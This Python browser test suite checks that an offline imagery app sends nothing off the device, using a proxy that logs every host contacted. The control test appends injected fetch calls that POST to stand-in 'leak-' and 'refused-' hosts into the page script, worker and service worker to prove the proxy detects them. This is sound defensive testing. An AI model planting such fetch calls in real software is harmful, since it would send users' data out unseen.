"""Nothing leaves the device: every connection of the browser goes to a proxy that writes down who was to be reached.

The control puts a leak into page, model worker and service worker, and shows that each would be noticed.
"""

from __future__ import annotations

import json
import shutil
import time
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pytest
import rasterio
from playwright.sync_api import expect

from tests.proxy import Proxy
from tools import site
from tools.serve import Server

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, BrowserContext, Page

    from tests.browser.conftest import Watch

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
START_MS = 120_000
RUN_MS = 300_000
LEAKS = {"js/boot.js": "page", "js/worker.js": "worker", "sw.js": "service-worker"}


@pytest.fixture(scope="module")
def dist(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    folder = tmp_path_factory.mktemp("egress") / "dist"
    site.build(ROOT, folder)
    yield folder
    shutil.rmtree(folder)


@pytest.fixture
def proxy() -> Iterator[Proxy]:
    with Proxy() as running:
        yield running


@pytest.fixture
def person(wasm_browser: Browser, proxy: Proxy, watch: Watch) -> Iterator[BrowserContext]:
    context = wasm_browser.new_context(proxy={"server": proxy.url, "bypass": "localhost"}, accept_downloads=True)
    context.on("console", watch.console)
    yield context
    context.close()


@pytest.fixture
def own_tiff(tmp_path: Path) -> Path:
    path = tmp_path / "own.tif"
    values = np.random.default_rng(7).integers(1200, 4000, (6, 128, 128), dtype=np.uint16)
    place = {"crs": "EPSG:32630", "transform": rasterio.Affine(10, 0, 600_000, 0, -10, 670_000)}
    with rasterio.open(path, "w", driver="GTiff", count=6, height=128, width=128, dtype="uint16", **place) as raster:
        raster.write(values)
        for index, name in enumerate(("B02", "B03", "B04", "B08", "B11", "B12"), start=1):
            raster.set_band_description(index, name)
    return path


def run_at(page: Page, place: dict[str, float]) -> None:
    page.locator("#search-text").fill(f"{place['lat']}, {place['lon']}")
    page.keyboard.press("Enter")
    page.locator("#inspector[data-stage='done'], #inspector[data-stage='failed']").wait_for(timeout=RUN_MS)
    expect(page.locator("#inspector")).to_have_attribute("data-stage", "done")


def test_practice_and_own_files_reach_no_other_host(
    person: BrowserContext, proxy: Proxy, dist: Path, own_tiff: Path
) -> None:
    with Server(dist) as server:
        page = person.new_page()
        page.goto(server.url)
        page.locator("body[data-ready]").wait_for(timeout=START_MS)
        page.locator("#offline-line", has_text="Works without a network").wait_for(state="attached", timeout=RUN_MS)
        run_at(page, json.loads((ROOT / "practice/region.json").read_text())["suggested"][0])
        page.locator("#own-input").set_input_files(own_tiff)
        page.locator("#own-run").click(timeout=RUN_MS)
        page.locator("#inspector[data-run='2'][data-stage='done']").wait_for(timeout=RUN_MS)
    assert proxy.hosts == []


def test_the_control_notices_a_leak_from_page_worker_and_service_worker_and_the_policy_refuses_plain_http(
    person: BrowserContext, proxy: Proxy, dist: Path, overlay: Path, watch: Watch
) -> None:
    watch.expected += ["leak-", "refused-", "ERR_TUNNEL_CONNECTION_FAILED", "Content Security Policy"]
    for name, place in LEAKS.items():
        path = overlay / name
        path.parent.mkdir(exist_ok=True)
        urls = [f"https://leak-{place}.example/", f"http://refused-{place}.example/"]
        options = "{ method: 'POST', body: 'x', mode: 'no-cors' }"
        leak = f"for (const url of {json.dumps(urls)}) fetch(url, {options}).catch(() => null);"
        path.write_text(f"{(dist / name).read_text()}\n{leak}\n")
    (overlay / "sw.js").write_text(
        (overlay / "sw.js").read_text().replace('addEventListener("install"', 'addEventListener("none"')
    )
    with Server(dist, overlays=(overlay,)) as server:
        page = person.new_page()
        page.goto(server.url)
        page.evaluate("navigator.serviceWorker.register('sw.js')")
        expected = {f"leak-{place}.example" for place in LEAKS.values()}
        until = time.monotonic() + START_MS / 1000
        while not expected <= set(proxy.hosts) and time.monotonic() < until:
            page.wait_for_timeout(100)
    assert set(proxy.hosts) == expected
